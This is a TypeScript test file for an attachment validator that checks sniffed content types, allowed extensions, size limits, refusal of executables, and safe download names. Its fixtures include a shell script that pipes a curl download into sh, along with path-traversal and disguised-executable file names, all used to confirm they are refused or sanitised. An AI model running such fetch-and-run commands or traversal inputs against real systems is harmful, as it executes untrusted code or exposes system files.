import { describe, expect, it } from 'vitest';
import { contentRefusal, nameRefusal, sizeRefusal } from '../../src/attachments/attachment-limits.js';
import { canonicalType, contentTypeMismatch, sniffType } from '../../src/attachments/content-type.js';
import { extensionMismatch } from '../../src/attachments/extension-content.js';
import { contentDisposition, downloadName, extensionOf } from '../../src/attachments/file-names.js';

const limits = { maxBytes: 1000, extensions: new Set(['pdf', 'png', 'txt']), maxPerRecord: 10, maxRecordBytes: 10_000 };

/** The first bytes of real files of each kind, as file-type reads them. */
const png = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(64)]);
const pdf = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n', 'latin1');
const elf = Buffer.concat([Buffer.from('7f454c46020101000000000000000000', 'hex'), Buffer.alloc(64)]);
const text = Buffer.from('Mail relay restarted at 10:02; queue drained.\n');
/** A Windows program: the DOS stub's MZ, and the PE header it points to. */
const pe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0'), Buffer.alloc(64)]);
const machO = Buffer.concat([Buffer.from('cffaedfe07000001', 'hex'), Buffer.alloc(64)]);
const script = Buffer.from('#!/bin/sh\ncurl -s https://example.com/x | sh\n');

describe('what an attachment is checked against', () => {
  it('reads the type off the content, whatever the name or declared type say', async () => {
    expect(await sniffType(png)).toEqual({ mime: 'image/png', ext: 'png' });
    expect(await sniffType(pdf)).toEqual({ mime: 'application/pdf', ext: 'pdf' });
    expect(await sniffType(text)).toBeNull();
  });

  it('takes content of the declared type, under any of its names and parameters', async () => {
    expect(contentTypeMismatch('image/png', await sniffType(png))).toBeNull();
    expect(contentTypeMismatch('Application/PDF; name=report.pdf', await sniffType(pdf))).toBeNull();
    expect(contentTypeMismatch('image/jpg', { mime: 'image/jpeg', ext: 'jpg' })).toBeNull();
    expect(contentTypeMismatch('text/plain', await sniffType(text))).toBeNull();
    expect(contentTypeMismatch('text/csv', await sniffType(text))).toBeNull();
    // An office document whose first bytes show only its zip container.
    expect(contentTypeMismatch('application/vnd.openxmlformats-officedocument.wordprocessingml.document', { mime: 'application/zip', ext: 'zip' })).toBeNull();
    expect(canonicalType(' Image/X-PNG ')).toBe('image/png');
  });

  it('refuses content that is another type than declared, naming the type it is', async () => {
    expect(contentTypeMismatch('text/plain', await sniffType(elf))).toBe('the content is application/x-elf (a .elf file), not text/plain; send it with Content-Type: application/x-elf');
    expect(contentTypeMismatch('application/octet-stream', await sniffType(pdf))).toContain('the content is application/pdf');
    expect(contentTypeMismatch('image/png', await sniffType(pdf))).toContain('not image/png');
  });

  it('refuses content declared as a type with a signature that it does not begin with', async () => {
    expect(contentTypeMismatch('application/pdf', await sniffType(text))).toBe('the content is not application/pdf: it does not begin the way application/pdf content does');
    expect(contentTypeMismatch('image/png', await sniffType(text))).toContain('does not begin the way image/png content does');
  });

  it('allows the configured extensions and names without one, and refuses the others', () => {
    expect(nameRefusal('Report.PDF', limits)).toBeNull();
    expect(nameRefusal('../../etc/passwd', limits)).toBeNull();
    expect(nameRefusal('.profile', limits)).toBeNull();
    expect(nameRefusal('setup.exe', limits)).toEqual({ status: 415, slug: 'attachment-type-not-allowed', reason: 'files ending in .exe are not allowed here; the allowed extensions are pdf, png, txt' });
    expect(nameRefusal('archive.tar.gz', limits)?.reason).toContain('.gz');
  });

  it('refuses a size past the limit with 413, and a mismatch with 415', async () => {
    expect(sizeRefusal(1000, limits)).toBeNull();
    expect(sizeRefusal(1001, limits)).toEqual({ status: 413, slug: 'attachment-too-large', reason: 'the file is 1001 bytes, more than the 1000 bytes allowed for an attachment here' });
    expect(contentRefusal({ fileName: 'a.pdf', contentType: 'application/pdf' }, await sniffType(png))).toMatchObject({ status: 415, slug: 'attachment-content-mismatch' });
  });

  it('checks the extension on the name as a file system saves it: no trailing dots or spaces, any case or width', () => {
    for (const name of ['evil.exe.', 'evil.exe. . ', 'evil.exe\t', 'EVIL.EXE', 'evil.ＥＸＥ', 'report.png.exe...']) {
      expect(nameRefusal(name, limits), name).toMatchObject({ status: 415, slug: 'attachment-type-not-allowed' });
    }
    expect(extensionOf('Report.PDF. ')).toBe('pdf');
    expect(nameRefusal('Report.PDF. ', limits)).toBeNull();
    expect(nameRefusal('...', limits)).toBeNull();
  });

  it('refuses programs and scripts as executables, whatever they are called or declared as', async () => {
    for (const [bytes, kind] of [
      [pe, 'application/x-msdownload, a .exe file'],
      [elf, 'application/x-elf, a .elf file'],
      [machO, 'application/x-mach-binary, a .macho file'],
    ] as const) {
      expect(contentRefusal({ fileName: 'report.png', contentType: 'image/png' }, await sniffType(bytes))).toEqual({
        status: 415,
        slug: 'attachment-executable',
        reason: `the content is an executable (${kind}); programs and scripts are not accepted as attachments`,
      });
    }
    for (const bytes of [script, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), script])]) {
      expect(contentRefusal({ fileName: 'notes.txt', contentType: 'text/plain' }, await sniffType(bytes))).toMatchObject({ slug: 'attachment-executable', reason: expect.stringContaining('starts with #!') });
    }
    expect(contentRefusal({ fileName: 'notes.txt', contentType: 'text/plain' }, await sniffType(Buffer.from('# not a script: #! later\n')))).toBeNull();
  });

  it('refuses content that is not what its extension says, even when it is what it was declared as', async () => {
    expect(contentRefusal({ fileName: 'report.png', contentType: 'application/pdf' }, await sniffType(pdf))).toEqual({
      status: 415,
      slug: 'attachment-content-mismatch',
      reason: 'the name ends in .png, but the content is application/pdf (a .pdf file); give it a name that ends in .pdf',
    });
    expect(extensionMismatch('txt', await sniffType(png))).toBe('the name ends in .txt, a text file, but the content is image/png (a .png file); give it a name that ends in .png');
    expect(extensionMismatch('png', await sniffType(text))).toBe('the name ends in .png, but the content does not begin the way a .png file does');
  });

  it('takes each extension with the content it may carry', async () => {
    expect(extensionMismatch('png', await sniffType(png))).toBeNull();
    expect(extensionMismatch('jpeg', { mime: 'image/jpeg', ext: 'jpg' })).toBeNull();
    expect(extensionMismatch('docx', { mime: 'application/zip', ext: 'zip' })).toBeNull();
    expect(extensionMismatch('msg', { mime: 'application/x-cfb', ext: 'cfb' })).toBeNull();
    expect(extensionMismatch('mov', { mime: 'video/mp4', ext: 'mp4' })).toBeNull();
    expect(extensionMismatch('csv', await sniffType(text))).toBeNull();
    expect(extensionMismatch('txt', { mime: 'application/xml', ext: 'xml' })).toBeNull();
    // An extension file-type cannot recognise (an admin's choice) takes content it does not recognise either, and names without one any content.
    expect(extensionMismatch('bin', null)).toBeNull();
    expect(extensionMismatch('bin', { mime: 'application/pdf', ext: 'pdf' })).toContain('the content is application/pdf');
    expect(extensionMismatch('', await sniffType(pdf))).toBeNull();
  });
});

describe('file names', () => {
  it('take the extension from the base name only', () => {
    expect(extensionOf('a.b/c')).toBe('');
    expect(extensionOf('dir.d\\notes.TXT')).toBe('txt');
    expect(extensionOf('no-extension')).toBe('');
  });

  it('offer a download under a plain base name, never a path', () => {
    expect(downloadName('../../etc/passwd')).toBe('passwd');
    expect(downloadName('C:\\Users\\x\\report.pdf')).toBe('report.pdf');
    expect(downloadName('a<b>:c"d|e?f*g.txt')).toBe('a_b__c_d_e_f_g.txt');
    expect(downloadName('../..')).toBe('attachment');
    expect(downloadName('dir/')).toBe('attachment');
  });

  it('give a Content-Disposition that always saves, with an ASCII name and the full name encoded', () => {
    expect(contentDisposition('../../etc/passwd')).toBe(`attachment; filename="passwd"; filename*=UTF-8''passwd`);
    expect(contentDisposition('Übersicht "Q3" 100%.pdf')).toBe(`attachment; filename="_bersicht _Q3_ 100_.pdf"; filename*=UTF-8''%C3%9Cbersicht%20_Q3_%20100%25.pdf`);
  });
});
